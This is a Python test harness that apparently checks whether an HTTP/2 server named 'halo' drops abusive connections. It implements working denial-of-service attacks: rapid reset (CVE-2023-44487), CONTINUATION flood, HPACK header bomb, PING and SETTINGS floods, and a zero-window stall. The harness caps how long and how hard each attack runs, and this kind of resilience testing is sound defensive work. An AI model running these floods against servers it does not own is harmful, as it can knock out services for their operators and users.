#!/usr/bin/python3
"""A misbehaving HTTP/2 client (cleartext, prior knowledge) for halo's flood tests.

usage: h2_abuse.py ATTACK HOST PORT

Frames are built with Debian's python3-h2 / python3-hpack (hyperframe), written raw so the
client can break the rules. Prints one line: `closed after N` when the server ended the
connection (EOF, reset or GOAWAY) after N attack units, or `open after N` when it took them all.
Bounded: at most LIMIT units and TIME_LIMIT seconds.
"""

import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TIME_LIMIT = 10.0


def request_headers(encoder, path="/slow"):
    return encoder.encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", "h2.test"), (":path", path)]
    )


class Conn:
    def __init__(self, host, port, settings=None):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        frame = SettingsFrame(0)
        for key, value in (settings or {}).items():
            frame.settings[key] = value
        self.sock.sendall(PREFACE + frame.serialize())
        self.closed = False
        self.goaway = False
        self.received = b""

    def send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    def poll(self, wait=0.0):
        """Reads what is there; notes EOF, errors and GOAWAY."""
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    return
                self.received += chunk
                if self._has_goaway():
                    self.goaway = True
        except (socket.timeout, BlockingIOError):
            return
        except OSError:
            self.closed = True

    def _has_goaway(self):
        # Walk the frames received so far looking for GOAWAY (type 7).
        data = self.received
        i = 0
        # Skip the server's frames one by one: 9-byte header, length in the first 3 bytes.
        while i + 9 <= len(data):
            length = int.from_bytes(data[i : i + 3], "big")
            if data[i + 3] == GoAwayFrame.type:
                return True
            i += 9 + length
        return False

    def ended(self):
        return self.closed or self.goaway


def rapid_reset(conn, limit):
    """HEADERS then RST_STREAM, over and over (CVE-2023-44487)."""
    encoder = hpack.Encoder()
    stream = 1
    for n in range(limit):
        frames = HeadersFrame(stream, request_headers(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize()
        frames += RstStreamFrame(stream, error_code=8).serialize()
        conn.send(frames)
        stream += 2
        if n % 20 == 0:
            conn.poll()
        if conn.ended():
            return n
    return None


def continuation_flood(conn, limit):
    """One HEADERS without END_HEADERS, then endless CONTINUATION frames."""
    encoder = hpack.Encoder()
    conn.send(HeadersFrame(1, request_headers(encoder), flags=[]).serialize())
    junk = encoder.encode([("x-junk", "a" * 1000)])
    for n in range(limit):
        conn.send(ContinuationFrame(1, junk, flags=[]).serialize())
        if n % 10 == 0:
            conn.poll()
        if conn.ended():
            return n
    return None


def hpack_bomb(conn, limit):
    """A 4 KB header put in the dynamic table, then referenced thousands of times by index."""
    encoder = hpack.Encoder()
    big = [(":method", "GET"), (":scheme", "http"), (":authority", "h2.test"), (":path", "/"), ("x-bomb", "b" * 4000)]
    conn.send(HeadersFrame(1, encoder.encode(big), flags=["END_HEADERS", "END_STREAM"]).serialize())
    stream = 3
    for n in range(limit):
        block = encoder.encode(big + [("x-bomb", "b" * 4000)] * 100)
        conn.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        stream += 2
        conn.poll(0.01)
        if conn.ended():
            return n
    return None


def ping_flood(conn, limit):
    """PINGs sent without ever reading the answers."""
    for n in range(limit):
        conn.send(PingFrame(0, opaque_data=n.to_bytes(8, "big")).serialize() * 100)
        if conn.closed:
            return n
    return None


def settings_flood(conn, limit):
    """SETTINGS frames sent without ever reading the acknowledgements."""
    for n in range(limit):
        frame = SettingsFrame(0)
        frame.settings[SettingsFrame.MAX_CONCURRENT_STREAMS] = 100
        conn.send(frame.serialize() * 100)
        if conn.closed:
            return n
    return None


def zero_window(conn, limit):
    """Asks for a response while granting no flow-control window, then waits."""
    encoder = hpack.Encoder()
    conn.send(HeadersFrame(1, request_headers(encoder, "/big"), flags=["END_HEADERS", "END_STREAM"]).serialize())
    for n in range(limit):
        conn.poll(0.1)
        if conn.closed:
            return n
    return None


ATTACKS = {
    "rapid_reset": (rapid_reset, 5000, {}),
    "continuation_flood": (continuation_flood, 20000, {}),
    "hpack_bomb": (hpack_bomb, 200, {}),
    "ping_flood": (ping_flood, 2000, {}),
    "settings_flood": (settings_flood, 2000, {}),
    "zero_window": (zero_window, 100, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}),
}


def main():
    attack, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    run, limit, settings = ATTACKS[attack]
    started = time.monotonic()
    conn = Conn(host, port, settings)
    ended_after = run(conn, limit)
    if ended_after is None:
        # Give the server a moment to act on what it got.
        deadline = time.monotonic() + 3
        while not conn.ended() and time.monotonic() < deadline and time.monotonic() - started < TIME_LIMIT:
            conn.poll(0.1)
        if conn.ended():
            ended_after = limit
    if ended_after is None:
        print(f"open after {limit}")
    else:
        print(f"closed after {ended_after}")


if __name__ == "__main__":
    main()
